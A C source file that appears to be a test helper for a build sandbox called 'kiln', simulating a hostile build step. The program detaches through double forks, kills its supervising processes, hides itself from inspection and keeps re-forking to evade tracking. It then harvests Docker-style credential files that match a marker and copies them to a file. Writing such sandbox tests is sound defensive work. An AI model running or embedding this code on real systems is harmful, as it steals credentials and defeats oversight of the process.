/* What a hostile step starts to outlive it: survivor ORDER MARK STOLEN
 *
 * Gives up a capability so that nobody knows it by those it has, takes a session of its own and two new parents, and
 * kills in the order given: `w` the process that watches over the step, `k` kiln, `p` kiln's parent. Then, for as long
 * as a minute, looks into kiln's credentials, and writes to the file STOLEN what it finds there. With an `h` at the end
 * nobody sees its root; with an `f` it is always another process, as fast as can be; with an `e` the step ends well.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

static int parent_of(int pid)
{
	char path[64], text[512], *end;
	int parent = 0, file;
	ssize_t length;

	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	file = open(path, O_RDONLY);
	length = file < 0 ? -1 : read(file, text, sizeof text - 1);
	close(file);
	if (length < 0)
		return 0;
	text[length] = 0;
	end = strrchr(text, ')');
	return end && sscanf(end, ") %*c %d", &parent) == 1 ? parent : 0;
}

int main(int count, char **words)
{
	const char *places[] = {"/kiln/.docker/config.json", "/kiln/.d2/config.json"};
	int watcher = getppid(), kiln = parent_of(watcher), keeper = parent_of(kiln), try, is_fast;
	time_t end = time(NULL) + 60;
	char text[4096];

	if (count != 4)
		return 2;
	is_fast = strchr(words[1], 'f') != NULL;
	prctl(PR_CAPBSET_DROP, 0, 0, 0, 0);
	if (fork() > 0) {
		if (strchr(words[1], 'e'))
			usleep(200000);
		else
			pause();
		return 0;
	}
	setsid();
	if (fork() > 0)
		_exit(0);
	usleep(100000);
	for (const char *whom = words[1]; *whom && strchr("wkp", *whom); whom++)
		kill(*whom == 'w' ? watcher : *whom == 'k' ? kiln : keeper, SIGKILL);
	if (strchr(words[1], 'h'))
		prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	for (try = 0; try < (is_fast ? 6000000 : 60000) && time(NULL) < end; try++) {
		for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
			int file = open(places[place], O_RDONLY | O_NONBLOCK);
			ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);

			close(file);
			if (length > 0 && (text[length] = 0, strstr(text, words[2]))) {
				file = open(words[3], O_WRONLY | O_CREAT | O_APPEND, 0666);
				write(file, text, length);
				close(file);
			}
		}
		if (fork() > 0)
			_exit(0); /* always another process */
		setsid();
		if (!is_fast)
			usleep(1000);
	}
	return 0;
}
